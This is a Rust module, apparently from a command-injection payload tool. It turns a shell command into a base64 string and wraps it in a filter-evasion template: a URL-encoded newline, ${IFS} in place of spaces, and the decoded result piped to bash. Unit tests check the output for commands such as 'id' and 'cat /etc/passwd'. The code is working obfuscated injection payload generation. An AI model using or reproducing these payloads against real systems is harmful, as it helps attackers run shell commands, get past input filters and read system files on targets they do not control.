//! Variant Base64: the whole command shipped as base64 and piped to a shell.

use crate::encode::Encoder;
use crate::escape::{ENCODED_NEWLINE, SEPARATOR};
use base64::{engine::general_purpose, Engine as _};

pub struct Base64Encoder;

impl Encoder for Base64Encoder {
    fn name(&self) -> &'static str {
        "base64"
    }

    fn label(&self) -> &'static str {
        "Variant Base64"
    }

    fn encode(&self, tokens: &[String]) -> String {
        if tokens.is_empty() {
            return String::new();
        }
        let encoded = general_purpose::STANDARD.encode(tokens.join(" ").as_bytes());
        format!("{ENCODED_NEWLINE}echo{SEPARATOR}{encoded}|base64{SEPARATOR}-d|bash")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload_segment(out: &str) -> &str {
        let start = out.find("echo${IFS}").unwrap() + "echo${IFS}".len();
        let end = out.find("|base64").unwrap();
        &out[start..end]
    }

    #[test]
    fn wraps_in_decode_template() {
        let tokens = vec!["id".to_string()];
        assert_eq!(
            Base64Encoder.encode(&tokens),
            "%0aecho${IFS}aWQ=|base64${IFS}-d|bash"
        );
    }

    #[test]
    fn decoding_recovers_joined_command() {
        for words in [
            vec!["cat", "/etc/passwd"],
            vec!["echo", "hello world", "ünï"],
            vec!["ls", "-la", "/tmp"],
        ] {
            let tokens: Vec<String> = words.iter().map(|s| s.to_string()).collect();
            let out = Base64Encoder.encode(&tokens);
            let decoded = general_purpose::STANDARD
                .decode(payload_segment(&out))
                .unwrap();
            assert_eq!(String::from_utf8(decoded).unwrap(), words.join(" "));
        }
    }
}
